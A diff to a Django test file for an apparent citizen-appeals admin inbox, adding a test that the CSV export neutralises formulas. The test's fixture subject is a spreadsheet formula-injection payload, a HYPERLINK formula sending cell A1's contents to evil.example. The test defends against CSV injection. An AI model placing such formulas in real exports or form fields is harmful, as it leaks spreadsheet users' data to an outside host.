@@ -3,6 +3,9 @@ assignment and the CSV export."""
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from django.utils import timezone
 
@@ -245,3 +248,10 @@ def test_officials_of_roles_other_than_handlers_get_no_colleague_filter(
     client_for, oversight: Official
 ) -> None:
     assert client_for(oversight).get(INBOX).status_code == 200
+
+
+def test_csv_export_writes_a_citizens_formula_as_inert_text(client_for, officer, file_appeal) -> None:
+    appeal = file_appeal(subject='=HYPERLINK("http://evil.example/?"&A1,"Click")')
+    response = client_for(officer).post(INBOX, {"action": "export_csv", "_selected_action": [appeal.pk]})
+    table = list(csv.reader(io.StringIO(response.content.decode())))
+    assert table[1][table[0].index("subject")] == "'" + appeal.subject
